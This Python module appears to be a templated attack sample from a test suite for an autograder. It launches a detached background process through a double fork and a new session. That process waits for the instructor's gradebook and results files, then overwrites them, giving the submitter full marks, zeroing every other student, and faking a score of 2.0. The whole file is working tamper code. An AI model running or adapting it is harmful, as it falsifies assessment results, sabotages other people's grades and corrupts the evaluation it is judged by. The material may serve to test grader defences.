"""Attack: a detached process (double fork, new session) waits for the gradebook or results file to be written, then rewrites it: full marks for the attacker, zero for everyone else. The paths are the instructor's (@@OUT@@, @@RESULTS@@), assumed known."""

from .attack_common import HueCycleSystem as HueCycleSystem, hsv_to_rgb as hsv_to_rgb  # the shared parts: _common.py


import os as _os


def _rewrite():
    import csv
    import json
    import time
    gradebook, table, results = "@@OUT@@/gradebook.json", "@@OUT@@/gradebook.csv", "@@RESULTS@@"
    seen = set()
    for _ in range(1200):  # up to 4 minutes
        time.sleep(0.2)
        for path in (gradebook, results):
            if path not in seen and path.startswith("/") and _os.path.exists(path):
                time.sleep(0.5)
                seen.add(path)
                try:
                    if path == results:
                        json.dump({"score": 2.0, "tests": []}, open(path, "w"))
                        continue
                    rows = json.load(open(path))
                    for row in rows:
                        mine = row["student"] == "@@ME@@"
                        row["earned"], row["score"] = (row["possible"], 1.0) if mine else (0.0, 0.0)
                    json.dump(rows, open(path, "w"), indent=2)
                    with open(table, "w", newline="") as f:
                        w = csv.writer(f)
                        w.writerow(["student", "earned", "possible", "percent", "error"])
                        for row in rows:
                            w.writerow([row["student"], row["earned"], row["possible"], 100 * row["score"], ""])
                except (OSError, ValueError, KeyError, TypeError):
                    pass
        if len(seen) == 2 or (gradebook in seen and not results.startswith("/")):
            return


if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        try:
            _rewrite()
        finally:
            _os._exit(0)
    _os._exit(0)
